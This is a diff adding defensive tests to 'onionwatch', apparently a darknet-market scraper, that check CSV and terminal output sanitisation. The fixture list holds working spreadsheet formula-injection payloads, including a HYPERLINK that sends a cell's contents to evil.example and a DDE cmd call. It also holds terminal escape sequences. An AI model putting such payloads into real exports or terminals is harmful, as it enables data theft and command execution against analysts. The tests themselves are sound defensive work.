@@ -170,3 +170,62 @@ def test_redirect_to_another_onion_is_refused():
         RedirectLoopMiddleware().process_response(request, response)
     same = Response(request.url, status=302, headers={"Location": "/item/2"}, request=request)
     assert RedirectLoopMiddleware().process_response(request, same) is same
+
+
+# --- 4. no injection into the analyst's spreadsheet or terminal ---------------------------------------
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cocaine 1g")', "=cmd|' /C calc'!A0 Cocaine 1g",
+    "+SUM(1+1) Cocaine 1g", "@SUM(1+1) Cocaine 1g", "-2+3 Cocaine 1g",
+    "Cocaine \x1b[2J\x1b[H1g \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b31m",
+]
+
+
+def _hostile_market(tmp_path) -> Path:
+    import html
+
+    site = tmp_path / "hostile-site"
+    site.mkdir()
+    links = []
+    for number, title in enumerate(HOSTILE_TITLES):
+        (site / f"l{number}.html").write_text(
+            f"<html><head><title>{html.escape(title)}</title></head><body><h1>{html.escape(title)}</h1>"
+            "<table><tr><td>Price</td><td>$25</td></tr></table><button>Buy</button></body></html>")
+        links.append(f'<a href="l{number}.html">x</a>')
+    (site / "index.html").write_text("<html><body>" + "".join(links) + "</body></html>")
+    config_file = tmp_path / "ow.toml"
+    config_file.write_text(f'[[markets]]\nname = "hostile"\nsource = "{site}"\n')
+    return config_file
+
+
+def test_csv_cells_and_terminal_tables_are_neutralised(tmp_path):
+    import csv
+    import io
+
+    from helpers import onionwatch
+
+    config_file = _hostile_market(tmp_path)
+    env = {"ONIONWATCH_DATA": str(tmp_path / "data")}
+    run = onionwatch("--config", str(config_file), "run", env=env)
+    assert run.returncode == 0, run.stderr
+    assert "\x1b" not in run.stdout and "\x9b" not in run.stdout
+    out = onionwatch("--config", str(config_file), "search", "market:hostile", "--csv", "--limit", "50", env=env)
+    rows = list(csv.DictReader(io.StringIO(out.stdout)))
+    assert len(rows) == len(HOSTILE_TITLES)
+    for row in rows:
+        assert not row["title"].startswith(("=", "+", "-", "@")), row["title"]
+        assert "\x1b" not in row["title"]
+    assert any(row["title"].startswith("'=HYPERLINK(") for row in rows)
+    table = onionwatch("--config", str(config_file), "search", "market:hostile", "--limit", "50", env=env)
+    assert table.returncode == 0
+    assert not any(ch in table.stdout for ch in "\x1b\x9b\x07\x9d")
+    assert "Cocaine 1g click" in table.stdout
+
+
+def test_sanitisers():
+    from onionwatch.safe_output import csv_cell, terminal_text
+
+    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1"
+    assert csv_cell("-12.5") == "-12.5" and csv_cell(-3) == -3 and csv_cell("Cocaine") == "Cocaine"
+    assert terminal_text("a\x1b]8;;http://x\x1b\\b\x1b]8;;\x1b\\c\x1b[31md\x00e\x85f") == "abcdef"
+    assert terminal_text("Мефедрон\nАлматы") == "Мефедрон Алматы"
